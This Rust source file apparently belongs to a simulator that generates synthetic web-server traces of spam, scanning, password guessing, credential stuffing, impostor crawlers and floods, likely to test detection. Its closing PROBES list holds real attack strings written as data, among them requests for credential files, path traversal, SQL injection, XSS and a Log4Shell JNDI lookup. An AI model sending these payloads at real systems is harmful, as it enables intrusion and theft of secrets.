//! Spam, probing, password guessing, impostors and floods.

use std::net::IpAddr;

use super::agents::{self, Device};
use super::chance::Chance;
use super::kind::ActorKind;
use super::network;
use super::trace::{MILLI, MINUTE, Method, Micros, SECOND, Sym, Trace, Version, Visitor};
use super::world::{Answer, Client, World};

/// Everything one attacker does in the simulated time.
#[expect(clippy::wildcard_enum_match_arm, reason = "the caller sends only the kinds of this file here")]
pub(super) fn live(world: &World, trace: &mut Trace, kind: ActorKind, index: u32) {
    let chance = &mut Chance::new(world.seed, kind.name(), index);
    let at = world.launch(chance);
    let attacker = Attacker { world, kind, index };
    match kind {
        ActorKind::ReferrerSpam => attacker.referrer_spam(trace, chance),
        ActorKind::CommentSpam => attacker.comment_spam(trace, chance, at),
        ActorKind::ScannerDeclared | ActorKind::ScannerBrowser => attacker.probes(trace, chance, at),
        ActorKind::BruteForce => attacker.guesses(trace, chance, at),
        ActorKind::BruteForceDistributed => attacker.guesses_from_many(trace, chance, at),
        ActorKind::CredentialStuffing => attacker.stuffs(trace, chance),
        ActorKind::ApiAbuse => attacker.empties_an_api(trace, chance, at),
        ActorKind::ImpostorCrawler => attacker.pretends(trace, chance, at),
        _ => attacker.floods(trace, chance, at),
    }
}

struct Attacker<'a> {
    world: &'a World,
    kind: ActorKind,
    index: u32,
}

impl Attacker<'_> {
    fn client(&self, trace: &mut Trace, address: IpAddr, agent: &str) -> Client {
        let visitor = Visitor {
            address,
            agent: trace.intern(agent),
            kind: self.kind,
            actor: self.index,
            language: Sym::NONE,
            browser_headers: false,
            via: false,
        };
        Client { visitor: trace.add_visitor(visitor), version: Version::H11 }
    }

    fn browser_agent(&self, chance: &mut Chance) -> String {
        agents::browser(chance, Device::Desktop, self.world.day)
    }

    /// The same foreign referrer on view after view, from several addresses.
    fn referrer_spam(&self, trace: &mut Trace, chance: &mut Chance) {
        let site = &self.world.site;
        let spam = trace.intern(&format!("https://{}-{}.example.com/", chance.pick(&SPAM), self.index));
        for _ in 0..3 {
            let (agent, address) = (self.browser_agent(chance), network::server(chance));
            let client = self.client(trace, address, &agent);
            let mut then = self.world.launch(chance);
            for _ in 0..self.world.volume(6) {
                let page = site.page(site.entry(chance));
                client.page(trace, chance, then, page, spam);
                then += chance.exponential(90 * SECOND);
            }
        }
    }

    /// Straight to the form's target, or one page and three seconds later the post; never an asset.
    fn comment_spam(&self, trace: &mut Trace, chance: &mut Chance, at: Micros) {
        let site = &self.world.site;
        let (agent, address) = (self.browser_agent(chance), network::server(chance));
        let client = self.client(trace, address, &agent);
        let mut then = at;
        for _ in 0..self.world.volume(8 + chance.below(12)) {
            let page = site.page(*chance.pick(&site.blog));
            let target = format!("{}/comments", trace.text(page.path));
            let target = trace.intern(&target);
            if chance.percent(50) {
                client.page(trace, chance, then, page, page.url);
                then += chance.between(700, 2_800) * MILLI;
            }
            let answer = if chance.percent(70) { Answer::with(303, 0) } else { Answer::with(403, 1_480) };
            client.send(trace, chance, then, Method::Post, target, answer.from(page.url));
            then += chance.exponential(25 * SECOND);
        }
    }

    fn probes(&self, trace: &mut Trace, chance: &mut Chance, at: Micros) {
        let agent = if self.kind == ActorKind::ScannerDeclared {
            (*chance.pick(&SCANNERS)).to_owned()
        } else {
            self.browser_agent(chance)
        };
        let address = network::server(chance);
        let client = self.client(trace, address, &agent);
        let mut then = at;
        for number in 0..self.world.volume(60) {
            let path = match PROBES.get((number as usize + 7 * self.index as usize) % (PROBES.len() + 8)) {
                Some(path) => trace.intern(path),
                None => trace.intern(&format!(
                    "/backup-{}.{}",
                    2_018 + chance.below(8),
                    chance.pick(&["zip", "tar.gz", "sql"])
                )),
            };
            let method = if chance.percent(8) { Method::Post } else { Method::Get };
            let answer = match chance.below(100) {
                0..82 => Answer::gone(),
                82..92 => Answer::with(403, 1_480),
                92..97 => Answer::with(400, 650),
                _ => Answer::with(500, 890),
            };
            client.send(trace, chance, then, method, path, answer);
            then += chance.exponential(700 * MILLI) + 40 * MILLI;
        }
    }

    fn guess(&self, trace: &mut Trace, chance: &mut Chance, client: Client, at: Micros) {
        let login = self.world.site.page(self.world.site.login);
        let answer = if chance.below(400) == 0 { Answer::with(303, 0) } else { Answer::with(401, 3_010) };
        client.send(trace, chance, at, Method::Post, login.path, answer.from(login.url));
    }

    fn guesses(&self, trace: &mut Trace, chance: &mut Chance, at: Micros) {
        let (agent, address) = (self.browser_agent(chance), network::server(chance));
        let client = self.client(trace, address, &agent);
        let mut then = at;
        for _ in 0..self.world.volume(200) {
            self.guess(trace, chance, client, then);
            then += chance.between(250, 1_400) * MILLI;
        }
    }

    fn guesses_from_many(&self, trace: &mut Trace, chance: &mut Chance, at: Micros) {
        let agent = agents::chrome(109, true);
        let network = network::hosting_network(chance);
        let mut then = at;
        for number in 0..self.world.volume(50) {
            let address =
                if number % 2 == 0 { network::in_network(chance, network) } else { network::server(chance) };
            let client = self.client(trace, address, &agent);
            for _ in 0..2 + chance.below(3) {
                self.guess(trace, chance, client, then);
                then += chance.exponential(2 * SECOND);
            }
        }
    }

    /// One leaked password every few minutes, each from another home.
    fn stuffs(&self, trace: &mut Trace, chance: &mut Chance) {
        let login = self.world.site.login;
        for _ in 0..self.world.volume(60) {
            let (agent, address) = (self.browser_agent(chance), network::home(chance));
            let client = self.client(trace, address, &agent);
            let at = chance.between(self.world.start, self.world.end - 1);
            if chance.percent(60) {
                client.page(trace, chance, at, self.world.site.page(login), Sym::NONE);
            }
            let then = at + chance.between(900, 4_000) * MILLI;
            self.guess(trace, chance, client, then);
        }
    }

    fn empties_an_api(&self, trace: &mut Trace, chance: &mut Chance, at: Micros) {
        let (agent, address) = (self.browser_agent(chance), network::server(chance));
        let client = self.client(trace, address, &agent);
        let mut then = at;
        for number in 0..self.world.volume(250) {
            let path = trace.intern(&format!("/api/v1/products?offset={}&limit=100", number * 100));
            let answer = if number % 90 > 80 {
                Answer::with(429, 210)
            } else {
                Answer::ok(14_000 + chance.below(9_000))
            };
            client.get(trace, chance, then, path, answer);
            then += 200 * MILLI + chance.between(0, 60) * MILLI;
        }
    }

    /// The agent of a search crawler from a hosting network that is not its operator's.
    fn pretends(&self, trace: &mut Trace, chance: &mut Chance, at: Micros) {
        let site = &self.world.site;
        let agent = chance.pick(&[
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        ]);
        let address = network::server(chance);
        let client = self.client(trace, address, agent);
        let mut then = at;
        for _ in 0..self.world.volume(60) {
            let page = site.page(chance.below(site.pages.len() as u32));
            client.page(trace, chance, then, page, Sym::NONE);
            then += chance.exponential(2 * SECOND);
        }
    }

    /// Twenty requests a second from a dozen addresses, until the server is tired of it.
    fn floods(&self, trace: &mut Trace, chance: &mut Chance, at: Micros) {
        let site = &self.world.site;
        let agent = agents::chrome(agents::newest_chrome(self.world.day), true);
        let clients: Vec<_> = (0..12)
            .map(|_| {
                let address = network::home(chance);
                self.client(trace, address, &agent)
            })
            .collect();
        let page = site.page(site.home);
        let mut then = at.min(self.world.end - 2 * MINUTE);
        for _ in 0..self.world.volume(500) {
            let path = if self.kind == ActorKind::FloodCacheBypass {
                trace.intern(&format!("/?{:08x}={:08x}", chance.below(u32::MAX), chance.below(u32::MAX)))
            } else {
                page.path
            };
            let answer = if chance.percent(7) { Answer::with(503, 370) } else { Answer::ok(page.bytes) };
            chance.pick(&clients).get(trace, chance, then, path, answer);
            then += chance.exponential(50 * MILLI);
        }
    }
}

const SPAM: [&str; 5] = ["cheap-watches", "traffic-now", "best-casino", "seo-rank", "free-pills"];

const SCANNERS: [&str; 4] = [
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
    "sqlmap/1.9.4#stable (https://sqlmap.org)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
];

/// Paths that scanners are known to ask for.
const PROBES: [&str; 48] = [
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/wp-login.php",
    "/wp-admin/setup-config.php",
    "/xmlrpc.php",
    "/wp-content/plugins/wp-file-manager/readme.txt",
    "/phpmyadmin/index.php",
    "/pma/",
    "/admin.php",
    "/administrator/",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/.DS_Store",
    "/config.json",
    "/config.php.bak",
    "/backup.sql",
    "/backup.zip",
    "/db.sql",
    "/dump.sql",
    "/server-status",
    "/actuator/env",
    "/actuator/health",
    "/solr/admin/info/system",
    "/cgi-bin/luci",
    "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
    "/boaform/admin/formLogin",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/owa/auth/logon.aspx",
    "/remote/login",
    "/manager/html",
    "/jenkins/login",
    "/console/",
    "/telescope/requests",
    "/debug/default/view",
    "/index.php?id=1%27%20OR%20%271%27=%271",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/?x=$%7Bjndi:ldap://203.0.113.9/a%7D",
    "/download?file=../../../../etc/passwd",
    "/api/v1/users/../admin",
    "/graphql?query=%7B__schema%7Btypes%7Bname%7D%7D%7D",
    "/shell.php",
    "/c99.php",
    "/alfa.php",
    "/wp-json/wp/v2/users",
    "/old/.htpasswd",
    "/login.action",
    "/hudson",
];
